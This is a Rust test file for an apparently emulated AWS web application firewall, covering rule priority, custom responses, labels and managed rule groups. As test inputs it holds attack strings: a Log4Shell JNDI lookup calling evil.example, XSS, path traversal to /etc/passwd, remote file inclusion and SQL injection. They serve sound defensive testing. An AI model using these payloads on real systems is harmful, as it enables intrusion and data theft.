//! Rules together: priority, actions, labels, groups, what the client is answered.

use super::super::{ActionKind, Inspection};
use super::{acl, ask, block, create, from, request, rule, seen, with, with_rules};
use crate::testing::Bench;
use serde_json::{Value, json};

fn path(text: &str) -> Value {
    json!({"ByteMatchStatement": {
        "FieldToMatch": {"UriPath": {}},
        "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
        "PositionalConstraint": "STARTS_WITH",
        "SearchString": text,
    }})
}

fn names(found: &Inspection) -> Vec<&str> {
    found.trail.iter().map(|look| &*look.rule).collect()
}

#[test]
fn the_lowest_priority_number_is_asked_first_and_the_first_ending_action_wins() {
    let rules = json!([
        rule("late", 9, block(), path("/")),
        rule("count", 1, json!({"Count": {}}), path("/")),
        rule("other", 2, block(), path("/none")),
        rule("let-in", 5, json!({"Allow": {}}), path("/cakes")),
    ]);
    let (mut waf, arn) = with_rules(rules);
    let found = ask(&mut waf, &arn, &request("GET", "/cakes"));
    assert_eq!(
        (found.action, found.rule.as_deref()),
        (ActionKind::Allow, Some("let-in"))
    );
    assert_eq!(names(&found), ["count", "other", "let-in"]);
    let found = ask(&mut waf, &arn, &request("GET", "/bread"));
    assert_eq!(
        (found.action, found.status, found.own_answer),
        (ActionKind::Block, 403, false)
    );
    let json = waf.to_json();
    let rules = &json[0]["rules"];
    assert_eq!(
        (
            &rules[0]["counted"],
            &rules[2]["allowed"],
            &rules[3]["blocked"]
        ),
        (&json!(2), &json!(1), &json!(1))
    );
    assert_eq!(
        (&json[0]["allowed"], &json[0]["blocked"]),
        (&json!(1), &json!(1))
    );
}

#[test]
fn without_a_match_the_default_action_decides() {
    let mut bench = Bench::new();
    let mut closed = acl(json!([rule("in", 0, json!({"Allow": {}}), path("/cakes"))]));
    closed["DefaultAction"] = json!({"Block": {"CustomResponse": {"ResponseCode": 404, "CustomResponseBodyKey": "gone"}}});
    closed["CustomResponseBodies"] =
        json!({"gone": {"ContentType": "TEXT_PLAIN", "Content": "Nothing here."}});
    let arn = create(&mut bench, "CreateWebACL", closed);
    let mut waf = bench.cloud.waf().clone();
    assert_eq!(
        ask(&mut waf, &arn, &request("GET", "/cakes")).action,
        ActionKind::Allow
    );
    let found = ask(&mut waf, &arn, &request("GET", "/x"));
    assert_eq!(
        (
            found.action,
            found.rule.as_deref(),
            found.status,
            found.own_answer
        ),
        (ActionKind::Block, None, 404, true)
    );
    assert_eq!(
        (&*found.body, found.headers.get("content-type")),
        ("Nothing here.", Some("text/plain"))
    );
    assert_eq!(waf.to_json()[0]["default"]["blocked"], 1);
}

#[test]
fn actions_change_the_request_or_answer_it() {
    let mut bench = Bench::new();
    let header = |name: &str| json!({"CustomRequestHandling": {"InsertHeaders": [{"Name": name, "Value": "yes"}]}});
    let mut list = acl(json!([
        rule("mark", 0, json!({"Count": header("seen")}), path("/")),
        rule(
            "teapot",
            1,
            json!({"Block": {"CustomResponse": {
            "ResponseCode": 429, "CustomResponseBodyKey": "slow", "ResponseHeaders": [{"Name": "Retry-After", "Value": "60"}]}}}),
            path("/slow")
        ),
        rule("puzzle", 2, json!({"Captcha": {}}), path("/puzzle")),
        rule("proof", 3, json!({"Challenge": {}}), path("/proof")),
        rule("in", 4, json!({"Allow": header("vip")}), path("/vip")),
    ]));
    list["CustomResponseBodies"] = json!({"slow": {"ContentType": "APPLICATION_JSON", "Content": "{\"message\":\"Slow down\"}"}});
    let arn = create(&mut bench, "CreateWebACL", list);
    let mut waf = bench.cloud.waf().clone();
    let found = ask(&mut waf, &arn, &request("GET", "/vip"));
    let added: Vec<_> = found.added.iter().collect();
    assert_eq!(
        added,
        [("x-amzn-waf-seen", "yes"), ("x-amzn-waf-vip", "yes")]
    );
    let found = ask(&mut waf, &arn, &request("GET", "/slow"));
    assert_eq!(
        (found.status, &*found.body, found.headers.get("retry-after")),
        (429, "{\"message\":\"Slow down\"}", Some("60"))
    );
    assert!(found.added.is_empty());
    for (path, status, word) in [("/puzzle", 405, "captcha"), ("/proof", 202, "challenge")] {
        let found = ask(&mut waf, &arn, &request("GET", path));
        assert_eq!(
            (
                found.status,
                found.headers.get("x-amzn-waf-action"),
                &*found.body
            ),
            (status, Some(word), "")
        );
        let mut page = request("GET", path);
        page.headers.set("Accept", "text/html");
        assert!(
            ask(&mut waf, &arn, &page)
                .body
                .starts_with("<!DOCTYPE html>")
        );
    }
}

#[test]
fn labels_reach_the_rules_that_follow() {
    let mut mark = rule("mark", 0, json!({"Count": {}}), path("/cakes"));
    mark["RuleLabels"] = json!([{"Name": "shop:cakes"}]);
    let label =
        |scope: &str, key: &str| json!({"LabelMatchStatement": {"Scope": scope, "Key": key}});
    let geo = json!({"GeoMatchStatement": {"CountryCodes": ["FR"]}});
    for (scope, key, wanted) in [
        ("LABEL", "shop:cakes", true),
        ("LABEL", "cakes", false),
        ("NAMESPACE", "shop:", true),
        ("NAMESPACE", "bread:", false),
        ("LABEL", "awswaf:111122223333:webacl:shop:shop:cakes", true),
        ("LABEL", "awswaf:clientip:geo:country:CH", true),
    ] {
        let rules = json!([
            mark,
            rule("where", 1, json!({"Count": {}}), geo.clone()),
            rule("by-label", 2, block(), label(scope, key)),
        ]);
        let (mut waf, arn) = with_rules(rules);
        let found = ask(&mut waf, &arn, &request("GET", "/cakes"));
        assert_eq!(found.action == ActionKind::Block, wanted, "{scope} {key}");
        assert_eq!(ask(&mut waf, &arn, &request("GET", "/")).labels.len(), 1);
    }
}

/// A rule that asks a managed group, with these settings of its statement.
fn managed(name: &str, over: Value, more: Value) -> Value {
    let statement = with(json!({"VendorName": "AWS", "Name": name}), more);
    let mut rule = json!({
        "Name": "group",
        "Priority": 0,
        "Statement": {"ManagedRuleGroupStatement": statement},
        "VisibilityConfig": seen("group"),
    });
    rule["OverrideAction"] = over;
    rule
}

#[test]
fn managed_groups_block_what_their_rules_name() {
    let core = "AWSManagedRulesCommonRuleSet";
    let mut nameless = request("GET", "/cakes");
    nameless.headers.remove("user-agent");
    let mut long = request("POST", "/cakes");
    long.body = Some("x".repeat(8_193));
    let mut log4j = request("GET", "/");
    log4j.headers.set("X-Api", "${jndi:ldap://evil.example/a}");
    let cases = [
        (core, nameless, Some("NoUserAgent_HEADER")),
        (core, long, Some("SizeRestrictions_BODY")),
        (
            core,
            request("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            Some("CrossSiteScripting_QUERYARGUMENTS"),
        ),
        (
            core,
            request("GET", "/?f=../../etc/passwd"),
            Some("GenericLFI_QUERYARGUMENTS"),
        ),
        (
            core,
            request("GET", "/?from=http://203.0.113.9/x.php"),
            Some("GenericRFI_QUERYARGUMENTS"),
        ),
        (
            core,
            request("GET", "/?from=https://bakery.example/x"),
            None,
        ),
        (core, request("GET", "/cakes?kind=rye"), None),
        (
            "AWSManagedRulesSQLiRuleSet",
            request("GET", "/?id=1%27%20OR%20%271%27=%271"),
            Some("SQLi_QUERYARGUMENTS"),
        ),
        (
            "AWSManagedRulesKnownBadInputsRuleSet",
            log4j,
            Some("Log4JRCE_HEADER"),
        ),
        (
            "AWSManagedRulesAdminProtectionRuleSet",
            request("GET", "/admin"),
            Some("AdminProtection_URIPATH"),
        ),
        (
            "AWSManagedRulesAmazonIpReputationList",
            from("198.51.100.7"),
            Some("AWSManagedIPReputationList"),
        ),
        (
            "AWSManagedRulesAmazonIpReputationList",
            from("198.51.100.200"),
            None,
        ),
        (
            "AWSManagedRulesAnonymousIpList",
            from("192.0.2.200"),
            Some("HostingProviderIPList"),
        ),
    ];
    for (group, request, wanted) in cases {
        let (mut waf, arn) = with_rules(json!([managed(group, json!({"None": {}}), json!({}))]));
        let found = ask(&mut waf, &arn, &request);
        let wanted = wanted.map(|rule| format!("{group}/{rule}"));
        assert_eq!(found.rule.as_deref(), wanted.as_deref(), "{}", request.url);
        assert_eq!(found.action == ActionKind::Block, wanted.is_some());
    }
}

#[test]
fn groups_can_be_set_to_count_and_narrowed() {
    let core = "AWSManagedRulesCommonRuleSet";
    let attack = request("GET", "/?f=../../etc/passwd");
    let allowed = |rule: Value| {
        let (mut waf, arn) = with_rules(json!([rule]));
        let found = ask(&mut waf, &arn, &attack);
        assert_eq!(found.action, ActionKind::Allow);
        (found, waf)
    };
    let (found, waf) = allowed(managed(core, json!({"Count": {}}), json!({})));
    assert_eq!(
        names(&found),
        [
            "group",
            "AWSManagedRulesCommonRuleSet/GenericLFI_QUERYARGUMENTS"
        ]
    );
    assert_eq!(found.trail[0].action, Some(ActionKind::Count));
    assert!(found.labels[0].ends_with(":core-rule-set:GenericLFI_QueryArguments"));
    assert_eq!(waf.to_json()[0]["rules"][0]["counted"], 1);
    let one = json!({"RuleActionOverrides": [{"Name": "GenericLFI_QUERYARGUMENTS", "ActionToUse": {"Count": {}}}]});
    let (found, _) = allowed(managed(core, json!({"None": {}}), one));
    assert_eq!(found.trail[1].action, Some(ActionKind::Count));
    let old = json!({"ExcludedRules": [{"Name": "GenericLFI_QUERYARGUMENTS"}]});
    allowed(managed(core, json!({"None": {}}), old));
    let only = json!({"ScopeDownStatement": path("/shop")});
    let (found, _) = allowed(managed(core, json!({"None": {}}), only));
    assert_eq!(found.trail.len(), 1);
}

#[test]
fn own_rule_groups_keep_their_capacity_labels_and_bodies() {
    let mut bench = Bench::new();
    let mut inner = rule(
        "no-admin",
        3,
        json!({"Block": {"CustomResponse": {"ResponseCode": 418, "CustomResponseBodyKey": "k"}}}),
        path("/admin"),
    );
    inner["Action"]["Block"]["CustomResponse"]["ResponseCode"] = json!(404);
    inner["RuleLabels"] = json!([{"Name": "admin"}]);
    let group = create(
        &mut bench,
        "CreateRuleGroup",
        json!({
            "Name": "house", "Scope": "REGIONAL", "Capacity": 10, "Rules": [inner], "VisibilityConfig": seen("house"),
            "CustomResponseBodies": {"k": {"ContentType": "TEXT_HTML", "Content": "<p>No."}},
        }),
    );
    let outer = json!({
        "Name": "house-rules", "Priority": 0, "OverrideAction": {"None": {}}, "VisibilityConfig": seen("house-rules"),
        "Statement": {"RuleGroupReferenceStatement": {"ARN": group}},
    });
    let arn = create(&mut bench, "CreateWebACL", acl(json!([outer])));
    let mut waf = bench.cloud.waf().clone();
    let found = ask(&mut waf, &arn, &request("GET", "/admin"));
    assert_eq!(
        (found.rule.as_deref(), found.status, &*found.body),
        (Some("house/no-admin"), 404, "<p>No.")
    );
    assert_eq!(
        &*found.labels[0],
        "awswaf:111122223333:rulegroup:house:admin"
    );
    assert_eq!(waf.to_json()[0]["capacity"], 10);
}
